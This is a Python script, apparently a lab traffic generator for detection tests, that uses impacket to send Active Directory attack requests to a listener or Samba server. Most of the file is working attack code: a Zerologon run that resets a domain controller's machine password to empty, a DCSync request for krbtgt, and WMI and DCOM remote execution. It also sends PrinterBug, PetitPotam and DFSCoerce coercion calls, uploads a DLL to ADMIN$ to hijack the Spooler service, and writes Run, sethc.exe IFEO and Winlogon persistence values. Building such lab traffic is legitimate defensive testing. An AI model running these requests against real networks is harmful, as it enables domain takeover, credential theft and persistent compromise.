"""The DCE/RPC requests of lateral movement and credential theft, built with impacket's NDR
classes and sent from the lab's client namespace:

    python dcerpc_attack_client.py tcp SERVER       # to dcerpc_listener.py (not Samba)
    python dcerpc_attack_client.py smb SERVER USER PASSWORD   # to Samba, over its pipes

``tcp`` (interfaces Samba does not serve, each on its own port of the listener): a Zerologon
run (NetrServerReqChallenge and NetrServerAuthenticate2 with zero credentials until one is
accepted, NetrServerPasswordSet2 with a zero authenticator and password), then one genuine-looking
NetrServerAuthenticate3; DCSync (DRSBind as NTDSAPI_CLIENT_GUID, DRSGetNCChanges V8 with
EXOP_REPL_OBJ for krbtgt); DCOM activation of MMC20.Application and of WMI's WbemLevel1Login;
IWbemServices ExecMethod Win32_Process.Create and ExecQuery; the PrinterBug (RpcOpenPrinter,
RpcRemoteFindFirstPrinterChangeNotificationEx to the client's UNC); PetitPotam's
EfsRpcOpenFileRaw with a UNC path. ``smb`` (what Samba serves): a DLL written to ADMIN$, a
service stopped and started (the hijack), Run and Image File Execution Options values written
through winreg, share/session and account enumeration, and DFSCoerce's NetrDfsRemoveStdRoot.
The answers do not matter (the listener's are empty): every request is on the wire, which is
what the tests read. The values sent are the constants below, which the tests import.
"""

from __future__ import annotations

import sys

from dcerpc_impacket_client import connect
from impacket.dcerpc.v5 import drsuapi, nrpc, rprn, rrp, samr, scmr, srvs, transport
from impacket.dcerpc.v5.dcom import wmi
from impacket.dcerpc.v5.dcomrt import IRemoteSCMActivator
from impacket.dcerpc.v5.dtypes import NULL, ULONG, WSTR
from impacket.dcerpc.v5.ndr import NDRCALL
from impacket.dcerpc.v5.rpcrt import DCERPCException
from impacket.uuid import string_to_bin, uuidtup_to_bin

PORTS = {
    "activator": 135,
    "netlogon": 49700,
    "wbem": 49701,
    "drsuapi": 49702,
    "spoolss": 49703,
    "efsrpc": 49704,
}
ZEROLOGON_ATTEMPTS = 7  # the listener refuses all but the last
DC_ACCOUNT = "FILESRV$"
ATTACKER = "kali"
GENUINE_CREDENTIAL = bytes.fromhex("5a4b3c2d1e0f1122")
KRBTGT_DN = "CN=krbtgt,CN=Users,DC=lab,DC=local"
CLSID_MMC20 = "49B2791A-B1AE-4C90-9B8E-E860BA07F889"
CLSID_WBEM_LEVEL1_LOGIN = "8BC3F05E-D86B-11D0-A075-00C04FB68820"
IID_IDISPATCH = "00020400-0000-0000-C000-000000000046"
IID_IWBEM_LEVEL1_LOGIN = "F309AD18-D86A-11D0-A075-00C04FB68820"
WMI_CLASS, WMI_METHOD = "Win32_Process", "Create"
WMI_QUERY = "SELECT * FROM Win32_Process"
EFSRPC_LSARPC_UUID = ("c681d488-d850-11d0-8c52-00c04fd90f7e", "1.0")
NETDFS_UUID = ("4fc742e0-4a10-11cf-8273-00aa004ae673", "3.0")
IWBEM_SERVICES_UUID = ("9556dc99-828c-11cf-a37e-00aa003240c7", "0.0")
HIJACK_DLL = "printconfig.dll"
HIJACKED_SERVICE = "Spooler"
RUN_KEY = "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"
RUN_VALUE, RUN_DATA = "Updater", "C:\\Users\\Public\\updater.exe"
IFEO_KEY = (
    "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe"
)
IFEO_VALUE, IFEO_DATA = "Debugger", "C:\\Windows\\System32\\cmd.exe"
WINLOGON_KEY = "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon"
WINLOGON_VALUE = "Userinit"
WINLOGON_DATA = "C:\\Windows\\system32\\userinit.exe,C:\\Users\\Public\\updater.exe"
AUTOSTART_VALUES = (
    (RUN_KEY, RUN_VALUE, RUN_DATA),
    (IFEO_KEY, IFEO_VALUE, IFEO_DATA),
    (WINLOGON_KEY, WINLOGON_VALUE, WINLOGON_DATA),
)
SHARE_ENUMERATIONS = 3
ACCOUNT_ENUMERATIONS = 6


def unc_of(address: str) -> str:
    """The UNC path the coercion calls name: a share on the client, as an attacker gives."""
    return f"\\\\{address}\\share\\file.txt"


class EfsRpcOpenFileRaw(NDRCALL):
    """MS-EFSR 3.1.4.2.1, as PetitPotam sends it (impacket has no EFSR module)."""

    opnum = 0
    structure = (("FileName", WSTR), ("Flag", ULONG))


class NetrDfsRemoveStdRoot(NDRCALL):
    """MS-DFSNM 3.1.4.4.2, as DFSCoerce sends it (impacket has no DFSNM module)."""

    opnum = 13
    structure = (("ServerName", WSTR), ("RootShare", WSTR), ("ApiFlags", ULONG))


def tcp_dce(server: str, service: str, uuid: bytes):
    dce = transport.DCERPCTransportFactory(f"ncacn_ip_tcp:{server}[{PORTS[service]}]").get_dce_rpc()
    dce.connect()
    dce.bind(uuid)
    return dce


def call(dce, request, object_uuid: bytes | None = None) -> None:
    """Send one request and read its answer, whatever it holds."""
    dce.call(request.opnum, request, object_uuid)
    dce.recv()


def secure_channel(request, account: str, computer: str):
    """The fields the secure channel calls share: a DC's account, as Zerologon names it."""
    request["PrimaryName"] = NULL
    request["AccountName"] = account + "\x00"
    request["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel
    request["ComputerName"] = computer + "\x00"
    return request


def zerologon(server: str) -> None:
    dce = tcp_dce(server, "netlogon", nrpc.MSRPC_UUID_NRPC)
    for _ in range(ZEROLOGON_ATTEMPTS):
        challenge = nrpc.NetrServerReqChallenge()
        challenge["PrimaryName"] = NULL
        challenge["ComputerName"] = ATTACKER + "\x00"
        challenge["ClientChallenge"] = b"\x00" * 8
        call(dce, challenge)
        attempt = secure_channel(nrpc.NetrServerAuthenticate2(), DC_ACCOUNT, ATTACKER)
        attempt["ClientCredential"] = b"\x00" * 8
        attempt["NegotiateFlags"] = 0x212FFFFF
        call(dce, attempt)
    reset = secure_channel(nrpc.NetrServerPasswordSet2(), DC_ACCOUNT, ATTACKER)
    reset["Authenticator"]["Credential"] = b"\x00" * 8
    reset["Authenticator"]["Timestamp"] = 0
    reset["ClearNewPassword"] = b"\x00" * 516
    call(dce, reset)
    genuine = secure_channel(nrpc.NetrServerAuthenticate3(), "WKSTN01$", "WKSTN01")
    genuine["SecureChannelType"] = nrpc.NETLOGON_SECURE_CHANNEL_TYPE.WorkstationSecureChannel
    genuine["ClientCredential"] = GENUINE_CREDENTIAL
    genuine["NegotiateFlags"] = 0x612FFFFF
    call(dce, genuine)


def dcsync(server: str) -> None:
    dce = tcp_dce(server, "drsuapi", drsuapi.MSRPC_UUID_DRSUAPI)
    bind = drsuapi.DRSBind()
    bind["puuidClientDsa"] = drsuapi.NTDSAPI_CLIENT_GUID
    extensions = drsuapi.DRS_EXTENSIONS_INT()
    extensions["cb"] = len(extensions) - 4
    extensions["dwFlags"] = drsuapi.DRS_EXT_GETCHGREQ_V6 | drsuapi.DRS_EXT_GETCHGREPLY_V6
    bind["pextClient"]["cb"] = len(extensions)
    bind["pextClient"]["rgb"] = list(extensions.getData())
    call(dce, bind)
    name = drsuapi.DSNAME()
    name["SidLen"] = 0
    name["Guid"] = drsuapi.NULLGUID
    name["Sid"] = ""
    name["NameLen"] = len(KRBTGT_DN)
    name["StringName"] = KRBTGT_DN + "\x00"
    name["structLen"] = len(name.getData())
    request = drsuapi.DRSGetNCChanges()
    request["hDrs"] = b"\x00" * 4 + b"\x11" * 16
    request["dwInVersion"] = 8
    request["pmsgIn"]["tag"] = 8
    v8 = request["pmsgIn"]["V8"]
    v8["uuidDsaObjDest"] = drsuapi.NTDSAPI_CLIENT_GUID
    v8["uuidInvocIdSrc"] = drsuapi.NTDSAPI_CLIENT_GUID
    v8["pNC"] = name
    v8["usnvecFrom"]["usnHighObjUpdate"] = 0
    v8["usnvecFrom"]["usnHighPropUpdate"] = 0
    v8["pUpToDateVecDest"] = NULL
    v8["ulFlags"] = drsuapi.DRS_INIT_SYNC | drsuapi.DRS_WRIT_REP
    v8["cMaxObjects"] = 1
    v8["cMaxBytes"] = 0
    v8["ulExtendedOp"] = drsuapi.EXOP_REPL_OBJ
    v8["pPartialAttrSet"] = NULL
    v8["pPartialAttrSetEx1"] = NULL
    v8["PrefixTableDest"]["PrefixCount"] = 0
    v8["PrefixTableDest"]["pPrefixEntry"] = NULL
    call(dce, request)


def dcom(server: str) -> None:
    """RemoteCreateInstance as impacket's own activator builds it; its answer is empty."""
    for clsid, iid in (
        (CLSID_MMC20, IID_IDISPATCH),
        (CLSID_WBEM_LEVEL1_LOGIN, IID_IWBEM_LEVEL1_LOGIN),
    ):
        dce = transport.DCERPCTransportFactory(
            f"ncacn_ip_tcp:{server}[{PORTS['activator']}]"
        ).get_dce_rpc()
        dce.connect()
        try:
            IRemoteSCMActivator(dce).RemoteCreateInstance(string_to_bin(clsid), string_to_bin(iid))
        except Exception as error:  # the listener's empty answer is no activation reply
            print("RemoteCreateInstance:", type(error).__name__)
        dce.disconnect()


def wmi_calls(server: str) -> None:
    dce = tcp_dce(server, "wbem", uuidtup_to_bin(IWBEM_SERVICES_UUID))
    ipid = string_to_bin("00009c01-1234-5678-9abc-def012345678")
    method = wmi.IWbemServices_ExecMethod()
    method["ORPCthis"]["version"]["MajorVersion"] = 5
    method["ORPCthis"]["version"]["MinorVersion"] = 7
    method["ORPCthis"]["flags"] = 0
    method["ORPCthis"]["cid"] = string_to_bin("11111111-2222-3333-4444-555555555555")
    method["ORPCthis"]["extensions"] = NULL
    method["strObjectPath"]["asData"] = WMI_CLASS
    method["strMethodName"]["asData"] = WMI_METHOD
    method["lFlags"] = 0
    method["pCtx"] = NULL
    method["pInParams"] = NULL
    method["ppOutParams"] = NULL
    method["ppCallResult"] = NULL
    call(dce, method, ipid)
    query = wmi.IWbemServices_ExecQuery()
    query["ORPCthis"] = method["ORPCthis"]
    query["strQueryLanguage"]["asData"] = "WQL"
    query["strQuery"]["asData"] = WMI_QUERY
    query["lFlags"] = 0
    query["pCtx"] = NULL
    call(dce, query, ipid)


def printer_bug(server: str, client: str) -> None:
    dce = tcp_dce(server, "spoolss", rprn.MSRPC_UUID_RPRN)
    opened = rprn.RpcOpenPrinter()
    opened["pPrinterName"] = f"\\\\{server}\x00"
    opened["pDatatype"] = NULL
    opened["pDevModeContainer"]["pDevMode"] = NULL
    opened["AccessRequired"] = rprn.SERVER_READ
    call(dce, opened)
    notify = rprn.RpcRemoteFindFirstPrinterChangeNotificationEx()
    notify["hPrinter"] = b"\x00" * 4 + b"\x22" * 16
    notify["fdwFlags"] = rprn.PRINTER_CHANGE_ADD_JOB
    notify["pszLocalMachine"] = f"\\\\{client}\x00"
    notify["pOptions"] = NULL
    call(dce, notify)


def petit_potam(server: str, client: str) -> None:
    dce = tcp_dce(server, "efsrpc", uuidtup_to_bin(EFSRPC_LSARPC_UUID))
    request = EfsRpcOpenFileRaw()
    request["FileName"] = unc_of(client) + "\x00"
    request["Flag"] = 0
    call(dce, request)


def over_tcp(server: str, client: str) -> None:
    zerologon(server)
    dcsync(server)
    dcom(server)
    wmi_calls(server)
    printer_bug(server, client)
    petit_potam(server, client)


def over_smb(server: str, user: str, password: str, client: str, dll: str) -> None:
    smb, pipe = connect(server, user, password)
    with open(dll, "rb") as payload:
        smb.putFile("ADMIN$", HIJACK_DLL, payload.read)
    dce = pipe("\\svcctl", scmr.MSRPC_UUID_SCMR)
    manager = scmr.hROpenSCManagerW(dce)["lpScHandle"]
    service = scmr.hROpenServiceW(dce, manager, HIJACKED_SERVICE + "\x00")["lpServiceHandle"]
    for step in (
        lambda: scmr.hRControlService(dce, service, scmr.SERVICE_CONTROL_STOP),
        lambda: scmr.hRStartServiceW(dce, service),
    ):
        try:
            step()
        except DCERPCException as error:  # Samba does not start its services on demand
            print("svcctl:", error)
    dce = pipe("\\winreg", rrp.MSRPC_UUID_RRP)
    hive = rrp.hOpenLocalMachine(dce)["phKey"]
    for key, value, data in AUTOSTART_VALUES:
        opened = hive
        try:
            for part in key.split("\\"):  # Samba creates one level at a time
                opened = rrp.hBaseRegCreateKey(dce, opened, part + "\x00", dwOptions=0)
                opened = opened["phkResult"]
            rrp.hBaseRegSetValue(dce, opened, value + "\x00", rrp.REG_SZ, data + "\x00")
        except DCERPCException as error:  # Samba refuses some key names; asked all the same
            print("winreg:", error)
    dce = pipe("\\srvsvc", srvs.MSRPC_UUID_SRVS)
    for _ in range(SHARE_ENUMERATIONS):
        srvs.hNetrShareEnum(dce, 1)
    dce = pipe("\\samr", samr.MSRPC_UUID_SAMR)
    handle = samr.hSamrConnect(dce)["ServerHandle"]
    domains = samr.hSamrEnumerateDomainsInSamServer(dce, handle)["Buffer"]["Buffer"]
    sid = samr.hSamrLookupDomainInSamServer(dce, handle, domains[0]["Name"])["DomainId"]
    domain = samr.hSamrOpenDomain(dce, handle, domainId=sid)["DomainHandle"]
    for _ in range(ACCOUNT_ENUMERATIONS // 3):
        samr.hSamrEnumerateUsersInDomain(dce, domain)
        samr.hSamrEnumerateGroupsInDomain(dce, domain)
        samr.hSamrEnumerateAliasesInDomain(dce, domain)
    dce = pipe("\\netdfs", uuidtup_to_bin(NETDFS_UUID))
    coerce = NetrDfsRemoveStdRoot()
    coerce["ServerName"] = client + "\x00"
    coerce["RootShare"] = "share\x00"
    coerce["ApiFlags"] = 1
    try:
        call(dce, coerce)
    except DCERPCException as error:  # Samba refuses it; the request is on the wire
        print("NetrDfsRemoveStdRoot:", error)


if __name__ == "__main__":
    if sys.argv[1] == "tcp":
        over_tcp(sys.argv[2], sys.argv[3])
    else:
        over_smb(*sys.argv[2:7])
